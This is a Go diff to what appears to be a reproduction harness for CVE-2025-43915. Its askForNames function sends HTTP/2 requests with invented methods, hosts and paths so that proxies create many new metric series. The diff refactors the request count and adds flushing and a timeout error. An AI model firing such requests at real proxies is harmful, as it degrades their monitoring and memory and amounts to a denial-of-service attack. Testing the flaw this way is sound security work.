@@ -9,6 +9,9 @@ import (
 // fewSeries are those of requests that were not there before, of one route and class.
 const fewSeries = 40
 
+// namesEach is how many an attacker makes up: fewer than streams, so that all of them are answered.
+const namesEach = 60
+
 // madeUpNames asks for what is the caller's to make up, and counts the series that the proxies made of it (CVE-2025-43915).
 func madeUpNames() *attack {
 	var one sync.Mutex // the admin port refuses more than two scrapes at once
@@ -38,12 +41,17 @@ func askForNames(pos *position) error {
 	defer nc.Close()
 	p := newPeer(nc)
 	p.client()
-	for i := range 60 {
+	for i := range namesEach {
 		name := fmt.Sprintf("x%d-%d", i, time.Now().UnixNano())
 		p.open(p.headers(":method", name, ":scheme", "http", ":authority", name, ":path", "/"+name), true)
 	}
-	for until := time.Now().Add(patient(answerTime)); p.answered() < 60 && time.Now().Before(until); {
-		time.Sleep(2 * time.Millisecond)
+	if err := p.out.Flush(); err != nil {
+		return err
+	}
+	for until := time.Now().Add(patient(answerTime)); p.answered() < namesEach; time.Sleep(2 * time.Millisecond) {
+		if time.Now().After(until) {
+			return fmt.Errorf("%d of %d requests were answered", p.answered(), namesEach)
+		}
 	}
 	return nil
 }
